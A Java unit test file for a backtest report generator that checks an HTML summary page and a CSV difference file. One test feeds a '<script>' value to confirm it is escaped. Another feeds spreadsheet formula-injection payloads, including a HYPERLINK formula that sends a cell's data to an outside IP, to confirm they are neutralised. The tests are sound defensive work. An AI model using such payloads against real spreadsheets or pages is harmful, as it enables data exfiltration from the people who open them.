package lingdian.record.backtest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import lingdian.record.backtest.BacktestTally.Cell;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BacktestPageTest {
    private static final String PLACE = "36048110000001";

    @TempDir
    private Path directory;

    @Test
    void aPageNeedsNothingElseAndTakesWhatItShowsForText() throws IOException {
        var tally = new BacktestTally();
        tally.count(new Cell("OVERTIME_OPERATION", "360481", PLACE), DifferenceKind.ADDED, 1_234);
        tally.count(new Cell("<script>", "360481", PLACE), DifferenceKind.REMOVED, 1);
        tally.outside(UndecidableReason.EDGE, 3);
        tally.verdicts("2026.1", 4_321);

        assertThat(page(tally))
                .contains("有差异", "判定依据：当时发布的规则和营业时间。1 家场所，20 条记录。", "超时营业", "瑞昌市")
                .contains("实时判定所依据的规则版本", "<tr><td>2026.1</td><td>4,321</td></tr>")
                .contains("<td class=\"some\">1,234</td>", PLACE, "&lt;script&gt;", "3：在留存数据的边缘", "3: at the edge")
                .doesNotContain("<script>", "http:", "https:", "src=", "<link", "变化的字段", "差异明细");
    }

    @Test
    void itShowsWhatChangedAndHowOften() throws IOException {
        try (var file = new DifferenceFile(directory.resolve("differences.csv"))) {
            for (int minutes : new int[] {40, 50}) {
                JsonNode found = overtime(minutes).put("standing", "suspicion");
                file.add(
                        cell("OVERTIME_OPERATION"),
                        Difference.of(overtime(30), found, Candidate.RELEASED.ignoredFields()));
            }
            file.add(cell("OVERTIME_OPERATION"), Difference.of(null, overtime(70), Candidate.RELEASED.ignoredFields()));
        }

        assertThat(page(new BacktestTally()))
                .contains("变化的字段", "<td>seconds 2，standing 2</td>")
                .contains("差异明细（3 条中的前 3 条）", "2026-07-02 00:00:00", "<td>30 → 40</td>", "<td>70</td>")
                .contains("<td>事实 → 嫌疑</td>", "<td>事实</td>");
    }

    /** A spreadsheet runs what begins like a formula, also behind a comma or in a line that a value begins. */
    @Test
    void whatAForeignHistoryPutsIntoAValueIsNoFormula() throws IOException {
        Path file = directory.resolve("differences.csv");
        for (String value : new String[] {
            "=HYPERLINK(\"http://198.51.100.1/?\"&D2)",
            "@SUM(1+1)",
            "fact,=1+1",
            "fact\n=1+1",
            "+1",
            "-1",
            "\"=1\"",
            "＝1"
        }) {
            ObjectNode stored =
                    overtime(30).put("standing", value).put("endedAt", value).put(value, 1);
            stored.putArray("authorities").add(value);
            try (var differences = new DifferenceFile(file)) {
                differences.add(
                        cell("OVERTIME_OPERATION"),
                        Difference.of(stored, overtime(40), Candidate.RELEASED.ignoredFields()));
                differences.add(cell(value), Difference.of(stored, null, Candidate.RELEASED.ignoredFields()));
            }
        }

        assertThat(Files.readAllLines(file))
                .hasSize(17)
                .allSatisfy(line ->
                        assertThat(line.split(",", -1)).hasSize(15).allMatch(cell -> cell.matches("[?]|\\w.*|")))
                .noneMatch(line -> line.contains("=") || line.contains("＝"));
    }

    private String page(BacktestTally tally) throws IOException {
        Path file = directory.resolve("differences.csv");
        new DifferenceFile(file).close();
        var result = new Backtest.Result(tally, 1, 20, file);
        return BacktestPage.of(result, Candidate.RELEASED, code -> code.equals("360481") ? "瑞昌市" : code);
    }

    private static Cell cell(String code) {
        return new Cell(code, "360481", PLACE);
    }

    private static ObjectNode overtime(int minutes) {
        return CafeJson.JSON
                .createObjectNode()
                .put("id", "5d3c0a52-6c0e-5a9b-9d0e-2a5f6f1c7b11")
                .put("standing", "fact")
                .put("startedAt", "2026-07-02T00:00:00+08:00")
                .put("endedAt", "2026-07-02T03:00:00.5+08:00")
                .put("seconds", minutes * 60);
    }
}
